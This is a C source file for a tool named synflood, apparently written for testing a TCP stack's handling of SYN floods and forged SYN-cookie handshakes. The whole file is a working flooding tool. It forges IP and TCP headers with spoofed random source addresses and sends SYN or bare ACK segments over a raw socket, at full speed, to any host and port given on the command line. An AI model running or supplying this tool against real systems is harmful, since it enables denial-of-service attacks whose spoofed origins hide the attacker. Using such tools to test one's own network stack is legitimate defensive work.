/*
 * synflood: sends TCP segments from spoofed sources as fast as a raw
 * socket takes them, for the SYN-flood and forged-cookie tests.
 *
 * usage: synflood [-a] [-i USEC] [-p BITS] COUNT DST_ADDR DST_PORT SRC_NET
 *   COUNT segments to DST_ADDR:DST_PORT, each from a random address in
 *   SRC_NET/16 (or /BITS) and a random port; SYNs, or with -a bare ACKs
 *   acknowledging a random number (forged handshake completions); -i waits
 *   USEC between segments.
 */
#include <sys/socket.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static uint32_t rng = 2463534242u;

static uint32_t
rnd(void)
{
	rng ^= rng << 13;
	rng ^= rng >> 17;
	rng ^= rng << 5;
	return rng;
}

static uint16_t
csum(const uint8_t *d, size_t len, uint32_t s)
{
	while (len >= 2) {
		s += (uint32_t)(d[0] << 8 | d[1]);
		d += 2;
		len -= 2;
	}
	if (len)
		s += (uint32_t)d[0] << 8;
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

int
main(int argc, char *argv[])
{
	uint8_t			 pkt[44], ph[12 + 24];
	struct sockaddr_in	 dst;
	uint32_t		 daddr, net, saddr, mask = 0xffff0000u;
	uint16_t		 dport, c;
	long			 count, i, sent = 0;
	int			 s, on = 1, ack = 0, ch, gap = 0, bits, bad = 0;

	while ((ch = getopt(argc, argv, "ai:p:")) != -1) {
		if (ch == 'a')
			ack = 1;
		else if (ch == 'i')
			gap = atoi(optarg);
		else if (ch == 'p') {
			if ((bits = atoi(optarg)) < 1 || bits > 31)
				bad = 1;
			else
				mask = 0xffffffffu << (32 - bits);
		}
	}
	argc -= optind;
	argv += optind;
	if (bad || argc != 4 || (count = atol(argv[0])) <= 0 ||
	    inet_pton(AF_INET, argv[1], &daddr) != 1 ||
	    inet_pton(AF_INET, argv[3], &net) != 1) {
		fprintf(stderr, "usage: synflood [-a] [-i USEC] [-p BITS] COUNT "
		    "DST_ADDR DST_PORT SRC_NET\n");
		return 2;
	}
	dport = htons((uint16_t)atoi(argv[2]));
	rng ^= (uint32_t)getpid();
	if ((s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW)) == -1 ||
	    setsockopt(s, IPPROTO_IP, IP_HDRINCL, &on, sizeof(on)) == -1) {
		perror("synflood: socket");
		return 1;
	}
	memset(&dst, 0, sizeof(dst));
	dst.sin_family = AF_INET;
	dst.sin_addr.s_addr = daddr;
	for (i = 0; i < count; i++) {
		uint32_t r = rnd();

		saddr = (net & htonl(mask)) | htonl(r & ~mask);
		memset(pkt, 0, sizeof(pkt));
		pkt[0] = 0x45;
		pkt[3] = sizeof(pkt);
		pkt[6] = 0x40;
		pkt[8] = 64;
		pkt[9] = IPPROTO_TCP;
		memcpy(pkt + 12, &saddr, 4);
		memcpy(pkt + 16, &daddr, 4);
		c = csum(pkt, 20, 0);
		pkt[10] = c >> 8;
		pkt[11] = c & 0xff;
		c = htons((uint16_t)(1024 + (rnd() % 60000)));
		memcpy(pkt + 20, &c, 2);
		memcpy(pkt + 22, &dport, 2);
		r = rnd();
		memcpy(pkt + 24, &r, 4);		/* seq */
		if (ack) {
			r = rnd();
			memcpy(pkt + 28, &r, 4);	/* ack */
		}
		pkt[32] = 6 << 4;			/* 24-byte header */
		pkt[33] = ack ? 0x10 : 0x02;
		pkt[34] = 0xff;
		pkt[35] = 0xff;
		pkt[40] = 2;				/* MSS 1460 */
		pkt[41] = 4;
		pkt[42] = 0x05;
		pkt[43] = 0xb4;
		memcpy(ph, pkt + 12, 8);
		ph[8] = 0;
		ph[9] = IPPROTO_TCP;
		ph[10] = 0;
		ph[11] = 24;
		memcpy(ph + 12, pkt + 20, 24);
		c = csum(ph, sizeof(ph), 0);
		pkt[36] = c >> 8;
		pkt[37] = c & 0xff;
		if (sendto(s, pkt, sizeof(pkt), 0, (struct sockaddr *)&dst,
		    sizeof(dst)) == (ssize_t)sizeof(pkt))
			sent++;
		if (gap > 0)
			usleep((useconds_t)gap);
	}
	printf("%ld sent\n", sent);
	return 0;
}
